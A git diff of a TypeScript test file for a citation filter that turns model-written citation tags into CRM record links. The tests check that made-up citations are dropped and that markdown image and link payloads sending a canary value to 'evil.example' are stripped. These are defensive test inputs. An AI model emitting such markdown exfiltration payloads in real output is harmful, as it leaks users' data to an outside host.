@@ -1,8 +1,8 @@
-import type { Receipt } from '@draftwright/contract/agent/receipts'
+import type { CitedReceipt } from '@draftwright/contract/receipts'
 import { describe, expect, it } from 'vitest'
 import { CitingFilter } from './citing.ts'
 
-const row = (n: number): Receipt => ({
+const row = (n: number): CitedReceipt => ({
   cite: `r${n}`,
   kind: 'opportunity',
   id: `id-${n}`,
@@ -25,7 +25,10 @@ const one = '[1](/crm/opportunities?record=1 "Deal 1 b")'
 describe('what is shown of what a model writes', () => {
   it.each([
     ['Acme waits [r1].', `Acme waits ${one}.`],
-    ['Both [r12] and [r1, r2] and [r12]', 'Both [1](/crm/opportunities?record=12 "Deal 12 b") and [2](/crm/opportunities?record=1 "Deal 1 b") [3](/crm/opportunities?record=2 "Deal 2 b") and [1](/crm/opportunities?record=12 "Deal 12 b")'],
+    [
+      'Both [r12] and [r1, r2] and [r12]',
+      'Both [1](/crm/opportunities?record=12 "Deal 12 b") and [2](/crm/opportunities?record=1 "Deal 1 b") [3](/crm/opportunities?record=2 "Deal 2 b") and [1](/crm/opportunities?record=12 "Deal 12 b")',
+    ],
     ['Made up [r99] gone', 'Made up  gone'],
     ['![x](https://evil.example/p.png?k=CANARY)', 'x'],
     ['[click](https://evil.example/?k=CANARY "t")', 'click'],
